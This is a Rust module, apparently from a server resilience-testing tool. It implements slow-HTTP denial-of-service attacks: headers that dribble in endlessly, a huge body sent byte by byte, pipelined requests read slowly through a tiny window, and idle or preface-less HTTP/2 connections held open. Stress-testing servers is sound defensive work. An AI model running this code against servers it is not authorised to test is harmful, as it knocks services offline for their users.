//! Attacks that take their time: heads and bodies that dribble, answers that are not read, connections that only sit there.

use super::super::h1::H1;
use super::super::wire::{self, Wire};
use super::{Force, Source};
use crate::ops::Op;
use std::io;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::time::{Instant, sleep, timeout_at};

/// An attacker's patience with a connection attempt.
const PATIENCE: Duration = Duration::from_secs(3);
/// Bytes that a slow body announces.
const BODY_BYTES: usize = 1_000_000;
/// Receive buffer of a slow reader; the kernel doubles it and has a floor of its own.
const TINY_WINDOW: usize = 1024;
/// Requests that a slow reader sends at once, so that answers pile up behind its window.
const PIPELINED: usize = 64;

/// A head, a line at a time, without end.
pub(super) async fn header(force: &Force, source: &Source) {
    let request = force.request(source);
    let mut head = Vec::new();
    request.h1_head(&mut head);
    let Some(wire) = open(force, source, request.op, None).await else { return };
    dribble(force, wire, head, |n| format!("X-{n}: a\r\n").into_bytes()).await;
}

/// A body, a byte at a time.
pub(super) async fn body(force: &Force, source: &Source) {
    let request = force.request(source);
    let mut head = Vec::new();
    request.h1_head(&mut head);
    // An operation without a body becomes one with it: the front can't know before it has read the head.
    if head.starts_with(b"GET ") {
        head.splice(..3, *b"POST");
    }
    let kind = if request.ask.content_type.is_empty() { "application/json" } else { request.ask.content_type };
    head.extend_from_slice(format!("Content-Type: {kind}\r\nContent-Length: {BODY_BYTES}\r\n\r\n").as_bytes());
    let Some(wire) = open(force, source, request.op, None).await else { return };
    dribble(force, wire, head, |_| b"{".to_vec()).await;
}

/// Answers that pile up: many requests at once, then a few bytes read now and then.
pub(super) async fn read(force: &Force, source: &Source) {
    let request = force.request(source);
    let bytes = request.h1().repeat(PIPELINED);
    let Some(mut wire) = open(force, source, request.op, Some(TINY_WINDOW)).await else { return };
    let until = force.at_most(Duration::from_millis(force.wave.hold_ms));
    if timeout_at(until, wire.write_all(&bytes)).await.is_err() {
        return;
    }
    let mut few = [0_u8; 16];
    while Instant::now() < until {
        pause(force, until).await;
        match timeout_at(until, wire.read(&mut few)).await {
            Ok(Ok(0) | Err(_)) => return force.cut(),
            Ok(Ok(_)) => {}
            Err(_) => return,
        }
    }
}

/// A connection with one request, kept for as long as the front lets it.
pub(super) async fn hoard(force: &Force, source: &Source) {
    let request = force.request(source);
    let Some(wire) = open(force, source, request.op, None).await else { return };
    let until = force.at_most(Duration::from_millis(force.wave.hold_ms));
    if wire.is_h2() {
        // Silent from the start: an HTTP/2 connection without a preface.
        return wait_for_end(force, wire, until).await;
    }
    let mut h1 = H1::new(wire);
    match timeout_at(until, h1.exchange(&request.h1())).await {
        Ok(Ok(answer)) => {
            force.answered(answer.status, answer.is_of_service());
            if answer.close {
                return force.cut();
            }
            wait_for_end(force, h1.into_wire(), until).await;
        }
        Ok(Err(_)) => force.cut(),
        Err(_) => {}
    }
}

async fn open(force: &Force, source: &Source, op: &Op, receive_buffer: Option<usize>) -> Option<Wire> {
    force.sent(1);
    let connect = async {
        let mut route = force.route(source, op).ok_or(io::ErrorKind::AddrNotAvailable)?;
        route.receive_buffer = receive_buffer;
        wire::connect(&route).await
    };
    match timeout_at(force.at_most(PATIENCE), connect).await {
        Ok(Ok(wire)) => {
            force.connected();
            Some(wire)
        }
        Ok(Err(_)) | Err(_) => {
            force.failed();
            None
        }
    }
}

async fn pause(force: &Force, until: Instant) {
    let drip = Duration::from_millis(force.wave.drip_ms);
    sleep(drip.min(until.saturating_duration_since(Instant::now()))).await;
}

async fn wait_for_end(force: &Force, mut wire: Wire, until: Instant) {
    let mut buf = [0_u8; 512];
    loop {
        match timeout_at(until, wire.read(&mut buf)).await {
            Ok(Ok(0) | Err(_)) => return force.cut(),
            Ok(Ok(_)) => {}
            Err(_) => return,
        }
    }
}

/// Sends `first`, then what `drip` makes, one piece every `drip_ms`, until the front has enough or the time is over.
async fn dribble(force: &Force, wire: Wire, first: Vec<u8>, drip: impl Fn(u32) -> Vec<u8>) {
    let until = force.at_most(Duration::from_millis(force.wave.hold_ms));
    let (mut reader, mut writer) = tokio::io::split(wire);
    let mut answer = [0_u8; 512];
    let write = async {
        let mut piece = first;
        for n in 0_u32.. {
            if writer.write_all(&piece).await.is_err() || writer.flush().await.is_err() || Instant::now() >= until {
                return;
            }
            pause(force, until).await;
            piece = drip(n);
        }
    };
    tokio::select! {
        () = write => force.cut_before(until),
        got = reader.read(&mut answer) => {
            force.cut();
            // A front that says why it ends the connection has answered.
            if matches!(got, Ok(n) if n > 0) {
                force.answered(status(&answer), false);
            }
        }
    }
}

/// The status in the first line of an answer; 0 where there is none.
fn status(answer: &[u8]) -> u16 {
    answer.get(9..12).and_then(|digits| std::str::from_utf8(digits).ok()).and_then(|s| s.parse().ok()).unwrap_or(0)
}

impl Force {
    /// The front ended it, if it is over before its time.
    fn cut_before(&self, until: Instant) {
        if Instant::now() < until {
            self.cut();
        }
    }
}
